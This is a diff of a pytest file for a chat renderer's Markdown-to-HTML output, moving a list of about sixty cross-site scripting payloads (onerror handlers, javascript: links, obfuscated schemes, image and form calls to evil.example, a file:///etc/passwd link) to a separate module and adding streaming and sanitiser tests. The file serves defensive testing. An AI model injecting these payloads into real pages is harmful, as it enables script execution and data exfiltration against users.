@@ -2,134 +2,60 @@
 
 import re
 import time
-from html.parser import HTMLParser
+from collections.abc import Callable
 
 import pytest
 
-from chat import rendering
-from chat.rendering import render
-
-TAGS = set(
-    "p h3 h4 h5 h6 ul ol li blockquote hr pre code span a em strong del sub sup kbd mark br "
-    "table thead tbody tr th td div figure figcaption".split()
-)
-ATTRIBUTES = {"class", "href", "title", "target", "rel", "start", "role", "tabindex", "aria-label"}
-CLASSES = re.compile(r"code|table|task|ta-(?:left|center|right)|t-[a-z0-9]{1,3}")
-ADDRESS = re.compile(r"https?://[^\s]+|mailto:[^\s]+|#.*|/(?![/\\]).*", re.IGNORECASE)
+from chat.rendering import render, writer
+from chat.rendering.stream import MarkdownStream
+from chat.rendering.wall import clean
+from tests.hostile import PAYLOADS
+from tests.inspector import inspect
 
 
-class Inspector(HTMLParser):
-    """Collects what no answer of a model may bring into a page."""
-
-    def __init__(self) -> None:
-        super().__init__(convert_charrefs=True)
-        self.faults: list[str] = []
-        self.text = ""
-        self.links: list[dict[str, str]] = []
-
-    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        if tag not in TAGS:
-            self.faults.append(f"<{tag}>")
-        for name, value in attrs:
-            if name not in ATTRIBUTES:
-                self.faults.append(f"{tag} {name}={value}")
-        found = {name: value or "" for name, value in attrs}
-        if tag == "a":
-            self.links.append(found)
-            if "href" in found and (
-                not ADDRESS.fullmatch(found["href"]) or re.search(r"[\x00-\x1f]", found["href"])
-            ):
-                self.faults.append(f"href {found['href']!r}")
-        for name in found.get("class", "").split():
-            if not CLASSES.fullmatch(name):
-                self.faults.append(f"class {name}")
-
-    def handle_comment(self, data: str) -> None:
-        self.faults.append(f"<!--{data}")
-
-    def handle_decl(self, decl: str) -> None:
-        self.faults.append(f"<!{decl}")
-
-    def handle_data(self, data: str) -> None:
-        self.text += data
+def streamed(source: str) -> str:
+    """All that a page is shown of a text while it comes, letter by letter."""
+    stream, shown = MarkdownStream(), []
+    for letter in source:
+        stream.feed(letter)
+        stream.close()
+        shown.append(stream.open_html())
+    return "".join([*shown, *stream.closed])
 
 
-def inspect(html: str) -> Inspector:
-    inspector = Inspector()
-    inspector.feed(html)
-    inspector.close()
-    return inspector
+def without_the_second_wall(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("chat.rendering.blocks.clean", lambda html: html)
 
 
-HOSTILE = [
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<svg onload=alert(1)>",
-    "<svg><animate onbegin=alert(1) attributeName=x>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-    "<iframe src=javascript:alert(1)></iframe>",
-    "<object data=javascript:alert(1)>",
-    "<form action=//evil.example><button>click",
-    "<base href=//evil.example>",
-    "<meta http-equiv=refresh content='0;url=//evil.example'>",
-    "<link rel=stylesheet href=//evil.example/x.css>",
-    "<style>*{background:url(//evil.example)}</style>",
-    "<div style='position:fixed;inset:0' class=composer id=query>",
-    "<kbd onclick=alert(1)>x</kbd>",
-    "<sub style=color:red>x</sub>",
-    "<br onfocus=alert(1) autofocus tabindex=0>",
-    "<details open ontoggle=alert(1)>",
-    "<!--><img src=x onerror=alert(1)>-->",
-    "<![CDATA[<img src=x onerror=alert(1)>]]>",
-    "<?php <img src=x onerror=alert(1)> ?>",
-    "<a href=javascript:alert(1)>x</a>",
-    "[x](javascript:alert(1))",
-    "[x](JaVaScRiPt:alert(1))",
-    "[x](java&#9;script:alert(1))",
-    "[x](java&Tab;script&colon;alert(1))",
-    "[x](<java\tscript:alert(1)>)",
-    "[x](\x01javascript:alert(1))",
-    "[x](&#1;javascript:alert(1))",
-    "[x](vbscript:msgbox)",
-    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "[x](//evil.example)",
-    "[x](/\\evil.example)",
-    "[x](\\\\evil.example)",
-    "[x](/&#9;/evil.example)",
-    "[x](</\t/evil.example>)",
-    "[x](file:///etc/passwd)",
-    "[x](blob:https://evil.example/1)",
-    "<javascript:alert(1)>",
-    "[x][ref]\n\n[ref]: javascript:alert(1)",
-    '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
-    '[x](https://a.example/"onmouseover=alert(1))',
-    'https://a.example/"onmouseover=alert(1)',
-    "https://a.example/<script>alert(1)</script>",
-    "![](https://evil.example/?q=secret)",
-    "![x](javascript:alert(1))",
-    "![<img src=x onerror=alert(1)>](https://a.example)",
-    "[![x](https://evil.example/a.png)](javascript:alert(1))",
-    '```"><img src=x onerror=alert(1)>\nx\n```',
-    "```html\n<script>alert(1)</script>\n```",
-    "`<img src=x onerror=alert(1)>`",
-    "| <img src=x onerror=alert(1)> |\n|-|\n| <script>alert(1)</script> |",
-    "# <img src=x onerror=alert(1)>",
-    "- [x] <img src=x onerror=alert(1)>",
-    "</div></article></main><h1>Sign in</h1>",
-    "{{ 7*7 }} {% csrf_token %}",
-]
+def faults_of(render_one: Callable[[str], str]) -> dict[str, list[str]]:
+    found = {source: inspect(render_one(source)).faults for source in PAYLOADS}
+    return {source: faults for source, faults in found.items() if faults}
 
 
-@pytest.mark.parametrize("source", HOSTILE)
-def test_nothing_active_and_nothing_of_another_host_comes_through(source: str) -> None:
-    assert inspect(render(source)).faults == []
+def test_nothing_active_and_nothing_of_another_host_comes_through() -> None:
+    assert faults_of(render) == {}
 
 
-@pytest.mark.parametrize("source", HOSTILE)
-def test_the_renderer_is_safe_without_its_second_wall(source: str, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr(rendering, "CLEANER", type("NoWall", (), {"clean": staticmethod(lambda html: html)}))
-    assert inspect(render(source)).faults == []
+def test_the_renderer_is_safe_without_its_second_wall(monkeypatch: pytest.MonkeyPatch) -> None:
+    without_the_second_wall(monkeypatch)
+    assert faults_of(render) == {}
+
+
+def test_the_second_wall_alone_stops_what_runs_and_what_loads() -> None:
+    faults = {fault for source in PAYLOADS for fault in inspect(clean(source)).faults}
+    assert faults == {"class composer"}  # classes are the renderer's own matter
+
+
+def test_nothing_comes_through_while_it_streams(monkeypatch: pytest.MonkeyPatch) -> None:
+    without_the_second_wall(monkeypatch)
+    assert faults_of(streamed) == {}
+
+
+def test_all_of_them_in_one_message(monkeypatch: pytest.MonkeyPatch) -> None:
+    together = "\n\n".join(PAYLOADS)
+    assert inspect(render(together)).faults == []
+    without_the_second_wall(monkeypatch)
+    assert inspect(render(together)).faults == []
 
 
 @pytest.mark.parametrize(
@@ -141,7 +67,7 @@ def test_raw_html_is_shown_as_the_text_it_is(source: str) -> None:
 
 def test_a_few_bare_tags_work() -> None:
     assert render("H<sub>2</sub>O<br>x<sup>2</sup> <kbd>Ctrl</kbd> <mark>m</mark>") == (
-        "<p>H<sub>2</sub>O<br>x<sup>2</sup> <kbd>Ctrl</kbd> <mark>m</mark></p>"
+        '<p dir="auto">H<sub>2</sub>O<br>x<sup>2</sup> <kbd>Ctrl</kbd> <mark>m</mark></p>'
     )
 
 
@@ -167,7 +93,7 @@ def test_a_link_opens_elsewhere_and_tells_nobody_where_it_was(source: str, href:
 
 
 def test_a_link_that_is_not_safe_is_its_text() -> None:
-    assert render("[click **me**](javascript:alert(1))") == "<p>click <strong>me</strong></p>"
+    assert render("[click **me**](javascript:alert(1))") == '<p dir="auto">click <strong>me</strong></p>'
 
 
 def test_an_image_is_a_link_to_it_and_never_fetched() -> None:
@@ -184,10 +110,13 @@ def test_an_image_inside_a_link_is_that_link() -> None:
 
 def test_markdown_becomes_what_it_means() -> None:
     assert render("**b** *i* ~~s~~ `c`") == (
-        "<p><strong>b</strong> <em>i</em> <del>s</del> <code>c</code></p>"
+        '<p dir="auto"><strong>b</strong> <em>i</em> <del>s</del> <code>c</code></p>'
     )
-    assert render("> q\n\n---") == "<blockquote><p>q</p></blockquote><hr>"
-    assert render("1. a\n2. b\n   - c") == '<ol start="1"><li>a</li><li>b<ul><li>c</li></ul></li></ol>'
+    assert render("> q\n\n---") == '<blockquote dir="auto"><p>q</p></blockquote><hr>'
+    assert (
+        render("1. a\n2. b\n   - c")
+        == '<ol start="1" dir="auto"><li>a</li><li>b<ul><li>c</li></ul></li></ol>'
+    )
 
 
 def test_the_page_keeps_its_first_two_levels_of_headings() -> None:
@@ -205,8 +134,9 @@ def test_code_keeps_every_character_and_has_colours() -> None:
 
 def test_code_in_an_unknown_language_is_plain() -> None:
     assert render("```klingon\nqapla'\n```") == (
-        '<figure class="code"><figcaption>klingon</figcaption>'
-        '<pre tabindex="0"><code>qapla\'\n</code></pre></figure>'
+        '<figure class="code"><figcaption><span class="language">klingon</span>'
+        '<button type="button" class="copy" hidden=""></button></figcaption>'
+        '<pre tabindex="0" dir="ltr"><code>qapla\'\n</code></pre></figure>'
     )
 
 
@@ -225,12 +155,12 @@ def test_a_task_says_whether_it_is_done() -> None:
 
 
 def test_windows_line_ends_are_line_ends() -> None:
-    assert render("a\r\n\r\nb") == "<p>a</p><p>b</p>"
+    assert render("a\r\n\r\nb") == '<p dir="auto">a</p><p dir="auto">b</p>'
 
 
 def test_what_is_nested_too_deep_is_flat_and_whole() -> None:
     html = render("- " * 1000 + "needle\n\n" + "> " * 1000 + "thread")
-    assert html.count("<ul>") == html.count("<blockquote>") == rendering.MAX_NESTING
+    assert html.count("<ul") == html.count("<blockquote") == writer.MAX_NESTING
     assert inspect(html).text == "needlethread"
 
 
